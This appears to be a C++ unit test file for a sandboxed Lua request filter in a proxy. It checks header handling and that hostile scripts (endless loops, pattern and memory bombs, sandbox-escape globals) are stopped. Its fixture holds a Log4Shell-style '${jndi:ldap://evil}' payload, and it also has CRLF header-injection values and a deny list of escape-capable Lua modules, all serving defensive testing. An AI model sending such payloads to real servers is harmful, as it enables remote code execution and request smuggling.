// Lua filters: what a script may do with a message, and that a hostile one can do nothing else.
#include "lua/script.h"

#include <gtest/gtest.h>

namespace sluice::lua {
namespace {

Message request() {
  Message message;
  message.fields = {{":method", "GET"},     {":path", "/shop?q=${jndi:ldap://evil}"},
                    {":authority", "shop"}, {"x-token", "one"},
                    {"user-agent", "curl"}, {"x-token", "two"}};
  message.peer = "10.0.0.7:4711";
  return message;
}

std::unique_ptr<Script> load(const std::string& code, ScriptLimits limits = {}) {
  auto script = Script::load("test", code, limits);
  EXPECT_TRUE(script.has_value()) << (script ? "" : script.error());
  return script ? std::move(*script) : nullptr;
}

// The filter's request function with this body.
Verdict run(const std::string& body, Message& message, ScriptLimits limits = {}) {
  return load("function envoy_on_request(h)\n" + body + "\nend", limits)->on_request(message);
}
Verdict run(const std::string& body) {
  Message message = request();
  return run(body, message);
}

// What an expression is worth, as text; the script's error otherwise.
std::string value(const std::string& expression) {
  const auto verdict = run("h:respond({[':status']='200'}, tostring(" + expression + "))");
  return verdict.kind == Verdict::Kind::respond ? verdict.body : "error: " + verdict.problem;
}

using Kind = Verdict::Kind;

TEST(Script, ReadsHeaders) {
  EXPECT_EQ(value("h:headers():get('X-Token')"), "one,two");
  EXPECT_EQ(value("h:headers():getAtIndex('x-token', 1)"), "two");
  EXPECT_EQ(value("h:headers():getAtIndex('x-token', 2)"), "nil");
  EXPECT_EQ(value("h:headers():getNumValues('x-token')"), "2");
  EXPECT_EQ(value("h:headers():get(':path')"), "/shop?q=${jndi:ldap://evil}");
  EXPECT_EQ(value("h:headers():get('none')"), "nil");
  EXPECT_EQ(value("h:streamInfo():protocol()"), "HTTP/1.1");
  EXPECT_EQ(value("h:streamInfo():downstreamRemoteAddress()"), "10.0.0.7:4711");
}

TEST(Script, WalksHeaders) {
  const auto verdict = run(R"(
    local seen = ''
    for name, value in pairs(h:headers()) do seen = seen .. name .. '=' .. value .. ';' end
    h:respond({[':status'] = 200}, seen))");
  EXPECT_EQ(verdict.body,
            ":method=GET;:path=/shop?q=${jndi:ldap://evil};:authority=shop;x-token=one;user-agent=curl;"
            "x-token=two;");
  EXPECT_EQ(run("for n in pairs(h:headers()) do h:headers():add('a', 'b') end").kind, Kind::failed);
  EXPECT_EQ(run("for k, v in pairs({a = 1}) do assert(k == 'a' and v == 1) end").kind, Kind::go_on);
}

TEST(Script, ChangesHeaders) {
  Message message = request();
  const auto verdict = run(R"(
    h:headers():add('X-New', 'yes')
    h:headers():replace('x-token', 'three')
    h:headers():replace(':path', '/other')
    h:headers():remove('User-Agent'))",
                           message);
  EXPECT_EQ(verdict.kind, Kind::go_on) << verdict.problem;
  EXPECT_TRUE(message.changed);
  const std::vector<Field> expected = {{":method", "GET"},
                                       {":path", "/other"},
                                       {":authority", "shop"},
                                       {"x-new", "yes"},
                                       {"x-token", "three"}};
  EXPECT_EQ(message.fields, expected);
  Message same = request();
  run("h:headers():get('x-token') h:headers():remove('none')", same);
  EXPECT_FALSE(same.changed);
}

TEST(Script, NothingThatBreaksAHeadGetsIn) {
  for (const char* bad : {"add('a b', 'c')", "add('', 'c')", "add('a:', 'c')", "add('a', 'b\\r\\nevil: 1')",
                          "add('a', 'b\\0c')", "replace(':path', '/a b')", "replace(':path', '')",
                          "add(':path', '/')", "remove(':path')", "replace(':evil', 'x')",
                          "replace(':status', '200')", "add('a', string.rep('x', 70000))"}) {
    Message message = request();
    EXPECT_EQ(run("h:headers():" + std::string(bad), message).kind, Kind::failed) << bad;
    EXPECT_EQ(message.fields, request().fields) << bad;
  }
  EXPECT_EQ(run("for i = 1, 1000 do h:headers():add('a' .. i, 'b') end").kind, Kind::failed);
}

TEST(Script, ReadsTheBodyWithinItsBound) {
  Message message = request();
  EXPECT_EQ(run("assert(h:body() == nil)", message).kind, Kind::go_on);
  message.body = "hello";
  const auto all = run("h:respond({[':status']='200'}, h:body():getBytes(0, h:body():length()))", message);
  EXPECT_EQ(all.body, "hello") << all.problem;
  EXPECT_EQ(run("h:respond({[':status']='200'}, h:body():getBytes(1, 3))", message).body, "ell");
  for (const char* bad : {"0, 6", "6, 0", "-1, 2", "2, -1", "5, 1"}) {
    EXPECT_EQ(run("h:body():getBytes(" + std::string(bad) + ")", message).kind, Kind::failed) << bad;
  }
  message.body_too_long = true;
  EXPECT_EQ(run("h:body()", message).kind, Kind::failed);
  message.body_too_long = false;
}

TEST(Script, ABodyThatWasNotCollectedIsAskedForOnce) {
  const auto script = load(R"(
    calls = 0
    function envoy_on_request(h)
      calls = calls + 1
      local got, body = pcall(h.body, h)
      h:respond({[':status'] = 200}, calls .. body:getBytes(0, body:length()))
    end
    function envoy_on_response(h) h:logInfo('no body') end)");
  Message message = request();
  message.body_unread = true;
  EXPECT_FALSE(script->wants_request_body());
  EXPECT_EQ(script->on_request(message).kind, Kind::wants_body);
  EXPECT_TRUE(script->wants_request_body());
  message.body_unread = false;
  message.body = "hello";
  EXPECT_EQ(script->on_request(message).body, "1hello") << "it begins anew";
  EXPECT_EQ(script->on_request(message).body, "2hello") << "and goes on from there";
  EXPECT_EQ(script->restarts(), 1U);
  message.body_unread = true;
  EXPECT_EQ(script->on_response(message).kind, Kind::go_on);
  EXPECT_FALSE(script->wants_response_body());
}

TEST(Script, Responds) {
  const auto verdict =
      run("h:respond({[':status'] = '403', ['x-why'] = 'no'}, 'go away') error('not reached')");
  EXPECT_EQ(verdict.kind, Kind::respond);
  EXPECT_EQ(verdict.status, 403);
  EXPECT_EQ(verdict.body, "go away");
  EXPECT_EQ(verdict.answer, (std::vector<Field>{{"x-why", "no"}}));
  EXPECT_EQ(run("pcall(h.respond, h, {[':status'] = 403}) error('not reached')").kind, Kind::respond);
  for (const char* bad : {"{}", "{[':status'] = 'x'}", "{[':status'] = 99}", "{[':status'] = 600}",
                          "{[':status'] = 200, [':path'] = '/'}", "{[':status'] = 200, ['a\\n'] = 'b'}",
                          "{[':status'] = 200, 'x'}", "nil"}) {
    EXPECT_EQ(run("h:respond(" + std::string(bad) + ", 'b')").kind, Kind::failed) << bad;
  }
}

TEST(Script, Logs) {
  const auto verdict =
      run("h:logInfo('a\\nb') h:logWarn(string.rep('x', 1000)) for i = 1, 99 do h:logErr('e') end");
  ASSERT_EQ(verdict.log.size(), kLogLinesMax);
  EXPECT_EQ(verdict.log[0].text, "a?b");
  EXPECT_EQ(verdict.log[0].level, 2);
  EXPECT_EQ(verdict.log[1].text.size(), kLogBytesMax);
}

TEST(Script, ResponsesAndMissingFunctions) {
  const auto script = load("function envoy_on_response(h) h:headers():replace(':status', '418') end");
  EXPECT_FALSE(script->sees_requests());
  EXPECT_TRUE(script->sees_responses());
  Message message;
  message.fields = {{":status", "200"}};
  EXPECT_EQ(script->on_response(message).kind, Kind::go_on);
  EXPECT_EQ(message.fields[0].value, "418");
  EXPECT_EQ(script->on_request(message).kind, Kind::go_on);
}

TEST(Script, WrongScriptsAreRefusedWithTheirLine) {
  const auto wrong = Script::load("filter", "x = 1\ny = = 2", {});
  ASSERT_FALSE(wrong.has_value());
  EXPECT_NE(wrong.error().find("filter:2:"), std::string::npos) << wrong.error();
  EXPECT_FALSE(Script::load("filter", "while true do end", {}).has_value());
  EXPECT_FALSE(Script::load("filter", "\x1bLJ\x02", {}).has_value());  // bytecode
  EXPECT_FALSE(Script::load("filter", std::string(5000, '('), {}).has_value());
  const auto verdict = run("local t = nil\nt.x = 1");
  EXPECT_EQ(verdict.kind, Kind::failed);
  EXPECT_NE(verdict.problem.find("test:3:"), std::string::npos) << verdict.problem;
  EXPECT_EQ(run("error({})").kind, Kind::failed);
  EXPECT_EQ(run("error()").kind, Kind::failed);
}

TEST(Script, GlobalsLastFromCallToCall) {
  const auto script =
      load("n = 0 function envoy_on_request(h) n = n + 1 h:respond({[':status']='200'}, n) end");
  Message message = request();
  script->on_request(message);
  EXPECT_EQ(script->on_request(message).body, "2");
}

TEST(Hostile, LoopsEnd) {
  for (const char* loop : {"while true do end", "repeat until false", "for i = 1, 1e15 do end",
                           "local function f() return f() end f()", "while true do pcall(error) end",
                           "while true do pcall(function() while true do end end) end",
                           "local function f() pcall(f) f() end f()", "::a:: goto a",
                           "local t = setmetatable({}, {__index = function(t, k) return t[k + 1] end}) while "
                           "true do pcall(function() return t[1] end) end",
                           "for n in ('x'):rep(1000):gmatch('()') do while true do end end",
                           "table.sort({3, 2, 1}, function() while true do end end)",
                           "('x'):gsub('x', function() while true do end end)",
                           "tostring(setmetatable({}, {__tostring = function() while true do end end}))"}) {
    Message message = request();
    const auto verdict = run(loop, message);
    EXPECT_TRUE(verdict.kind == Kind::overrun) << loop << ": " << verdict.problem;
  }
}

TEST(Hostile, PatternsEnd) {
  for (const char* bomb :
       {"(('a'):rep(3000) .. 'b'):find(('a-'):rep(40) .. 'c')", "('a'):rep(100000):find('.-.-.-.-b')",
        "('a'):rep(100000):gsub('.-b', '')", "('a'):rep(30000):match('(.*)(.*)(.*)(.*)x')",
        "('('):rep(100000):find('%b()')", "for _ in ('a'):rep(100000):gmatch('.-b') do end",
        "while true do ('a'):rep(100000):find('b', 1, true) end",
        "while true do ('a'):rep(100000):lower() end", "while true do string.rep('', 1e9) end",
        "local t = {} for i = 1, 10000 do t[i] = i end while true do table.concat(t) end",
        "local t = {} for i = 1, 10000 do t[i] = i end while true do table.insert(t, 1, 1) table.remove(t, "
        "1) end"}) {
    EXPECT_EQ(run(bomb).kind, Kind::overrun) << bomb;
  }
}

TEST(Hostile, MemoryHasACap) {
  for (const char* bomb :
       {"local t = {} while true do t[#t + 1] = ('x'):rep(1000) .. #t end",
        "local s = 'x' while true do s = s .. s end", "return ('x'):rep(1e9)",
        "local t = {} while true do t[#t + 1] = {} end",
        "while true do pcall(function() local s = 'x' while true do s = s .. s end end) end",
        "local t = {} for i = 1, 1e9 do t[i] = 'x' end table.concat(t)",
        "string.rep('x', 1000):gsub('x', string.rep('y', 100000))"}) {
    Message message = request();
    const auto verdict = run(bomb, message);
    EXPECT_TRUE(verdict.kind == Kind::memory || verdict.kind == Kind::overrun) << bomb << verdict.problem;
  }
  const auto script = load("t = {} function envoy_on_request(h) while true do t[#t + 1] = {} end end");
  Message message = request();
  for (int i = 0; i < 5; ++i) {
    EXPECT_EQ(script->on_request(message).kind, Kind::memory);
    EXPECT_LE(script->memory(), ScriptLimits{}.memory);
  }
  EXPECT_EQ(script->restarts(), 4U);
}

TEST(Hostile, TheStackOfCHasABoundToo) {
  for (const char* deep :
       {"local function f() ('x'):gsub('x', f) end f()", "local function f() assert(pcall(f)) end f()",
        "local t = {} setmetatable(t, {__tostring = function() return tostring(t) end}) tostring(t)",
        "local function f() table.sort({2, 1}, f) end f()", "local function f() return 1 + f() end f()"}) {
    const auto verdict = run(deep);
    EXPECT_TRUE(verdict.broken()) << deep;
  }
}

TEST(Hostile, NothingLeadsOutside) {
  for (const char* name : {"io",          "os",           "debug",         "package",  "require",
                           "module",      "load",         "loadstring",    "loadfile", "dofile",
                           "ffi",         "jit",          "coroutine",     "newproxy", "collectgarbage",
                           "getfenv",     "setfenv",      "xpcall",        "print",    "gcinfo",
                           "string.dump", "string.gfind", "table.foreach", "bit",      "math.randomseed"}) {
    EXPECT_EQ(value(name), "nil") << name;
  }
  EXPECT_EQ(value("getmetatable('')"), "false");
  EXPECT_EQ(value("getmetatable(h)"), "false");
  EXPECT_EQ(value("getmetatable(h:headers())"), "false");
  EXPECT_EQ(value("pcall(setmetatable, h, {})"), "false");
  EXPECT_EQ(value("('').dump"), "nil");
  EXPECT_EQ(value("h.object"), "nil");
  EXPECT_EQ(value("pcall(h.headers, h:headers())"), "false");
  EXPECT_EQ(value("pcall(h.headers, {})"), "false");
}

TEST(Hostile, AHandleThatWasKeptShowsOnlyThePresentMessage) {
  const auto script = load(R"(
    if kept then kept:get('x') end
    function envoy_on_request(h)
      kept = kept or h:headers()
      h:respond({[':status'] = '200'}, kept:get('x-token'))
    end)");
  Message first = request();
  EXPECT_EQ(script->on_request(first).body, "one,two");
  Message second;
  second.fields = {{"x-token", "mine"}};
  EXPECT_EQ(script->on_request(second).body, "mine");
}

class Stopwatch final : public Clock {
 public:
  MonoTime now() const override { return MonoTime(Millis(calls_++)); }
  WallTime wall() const override { return {}; }

 private:
  mutable std::int64_t calls_ = 0;
};

TEST(Hostile, TheDeadlineIsASecondLine) {
  const Stopwatch clock;
  Message message = request();
  ScriptLimits limits;
  limits.clock = &clock;
  limits.instructions = ~0ULL;
  EXPECT_EQ(run("while true do end", message, limits).kind, Kind::overrun);
}

}  // namespace
}  // namespace sluice::lua
